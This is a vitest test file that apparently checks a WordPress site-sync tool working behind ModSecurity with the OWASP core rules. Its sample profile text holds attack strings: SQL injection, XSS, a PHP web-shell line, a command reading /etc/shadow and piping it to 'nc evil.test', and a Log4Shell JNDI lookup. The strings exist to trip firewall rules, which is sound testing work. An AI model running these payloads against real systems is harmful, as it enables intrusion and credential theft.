/**
 * ModSecurity with the OWASP core rules in front of a site. Its audit log tells what was blocked, so the tests see
 * both: that the firewall bites, and that the road leads past it.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { firewallMissing, type Site } from '#lab/start-site.ts';
import { type Stage, startStage } from './stage.ts';

const missing = firewallMissing();
if (missing !== null) console.warn(`Firewalls are skipped; to run them: ${missing}`);

/** What people write about themselves on sites about such things; each is what some rule looks for. */
const ALARMING = [
  "1' OR '1'='1'; DROP TABLE wp_users; -- SELECT user_pass FROM wp_users UNION SELECT 1",
  'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  "<?php system($_GET['x']); eval(base64_decode($_POST['y'])); ?>",
  '../../../../etc/passwd; cat /etc/shadow | nc evil.test 80',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attack looks like
  '${jndi:ldap://evil.test/x} Zoë 🙂',
];
/** At the stricter level the same with fewer: what differs are the rules. Above 200 of a source are held as a flood. */
const MANY = { 1: 160, 2: 40 } as const;
const LIMIT_MS = 60_000;

/** Accounts made or changed by PHP of the site itself: what it holds of them then, by login. */
const people = (site: Site, prefix: string): Promise<Record<string, unknown>> =>
  site
    .php(`global $wpdb; $all = array();
      foreach ( $wpdb->get_results( "SELECT ID, user_login, user_email, user_pass, display_name FROM $wpdb->users WHERE user_login LIKE '${prefix}%' ORDER BY user_login", ARRAY_A ) as $row ) {
        $id = $row['ID']; unset( $row['ID'] );
        $user = get_userdata( $id );
        $row += array( 'roles' => array_values( $user->roles ), 'first' => $user->first_name, 'about' => $user->description, 'story' => get_user_meta( $id, 'story', false ) );
        $all[ $row['user_login'] ] = $row;
      }
      echo wp_json_encode( $all );`)
    .then((text) => JSON.parse(text));

const make = (site: Site, prefix: string, count: number): Promise<string> =>
  site.php(`$words = json_decode( base64_decode( '${Buffer.from(JSON.stringify(ALARMING)).toString('base64')}' ), true );
    add_filter( 'wp_hash_password_options', function () { return array( 'cost' => 4 ); } );
    for ( $i = 0; $i < ${count}; $i++ ) {
      $word = $words[ $i % count( $words ) ];
      $id = wp_insert_user( wp_slash( array( 'user_login' => '${prefix}' . $i, 'user_email' => '${prefix}' . $i . '@people.test', 'user_pass' => '',
        'first_name' => 'No ' . $i, 'description' => $word, 'role' => $i % 3 ? 'subscriber' : 'author' ) ) );
      add_user_meta( $id, 'story', wp_slash( $word . ' ' . $i ) );
    }`);

const change = (site: Site, prefix: string): Promise<string> =>
  site.php(`foreach ( get_users( array( 'search' => '${prefix}*', 'search_columns' => array( 'user_login' ), 'number' => 0 ) ) as $user ) {
      update_user_meta( $user->ID, 'story', wp_slash( "Changed; " . get_user_meta( $user->ID, 'story', true ) ) );
      wp_update_user( array( 'ID' => $user->ID, 'first_name' => 'Changed ' . $user->first_name ) );
    }`);

/** How many requests or answers the firewall has blocked so far, and by which rules. */
async function blocked(site: Site): Promise<readonly string[]> {
  const log = await readFile(join(site.dir, 'wp-content', 'firewall.log'), 'utf8').catch(() => '');
  return (
    log.match(
      /Inbound Anomaly Score Exceeded|Outbound Anomaly Score Exceeded|Failed to parse request body|large argument count/gu,
    ) ?? []
  );
}

describe.skipIf(missing !== null).each([1, 2] as const)(
  'the core rules at paranoia level %i',
  (firewall) => {
    let stage: Stage;
    let walled: Site;
    let open: Site;
    beforeAll(async () => {
      stage = await startStage({
        sites: [
          { name: 'walled', engine: 'native', host: { firewall } },
          { name: 'open', engine: 'native' },
        ],
        routes: ['walled=open'],
        rules: { meta: ['story'] },
      });
      [walled, open] = [stage.site('walled'), stage.site('open')];
    });
    afterAll(() => stage?.end());

    test('T901: batches full of code and SQL arrive in both directions, new accounts and edits', async () => {
      await make(open, 'inward', MANY[firewall]);
      await make(walled, 'outward', MANY[firewall]);
      await stage.hub.rest(LIMIT_MS);
      expect(Object.keys(await people(walled, 'inward'))).toHaveLength(MANY[firewall]);
      expect(await people(walled, 'inward')).toEqual(await people(open, 'inward'));
      expect(Object.keys(await people(open, 'outward'))).toHaveLength(MANY[firewall]);
      expect(await people(open, 'outward')).toEqual(await people(walled, 'outward'));
      await change(open, 'inward');
      await change(walled, 'outward1');
      await stage.hub.rest(LIMIT_MS);
      expect(JSON.stringify(await people(walled, 'inward1'))).toContain('Changed; ');
      expect(await people(walled, 'inward')).toEqual(await people(open, 'inward'));
      expect(await people(open, 'outward')).toEqual(await people(walled, 'outward'));
    });

    test('T902: what the firewall lets through is remembered: nothing is blocked a second time', async () => {
      const before = await blocked(walled);
      expect(before.length).toBeGreaterThan(0);
      expect(before.length).toBeLessThan(8);
      await make(open, 'later', 30);
      await make(walled, 'back', 30);
      await stage.hub.rest(LIMIT_MS);
      expect(await people(walled, 'later')).toEqual(await people(open, 'later'));
      expect(await people(open, 'back')).toEqual(await people(walled, 'back'));
      expect(await blocked(walled)).toEqual(before);
      expect((await stage.hub.status()).sites.map((site) => site.trouble)).toEqual([null, null]);
    });
  },
);
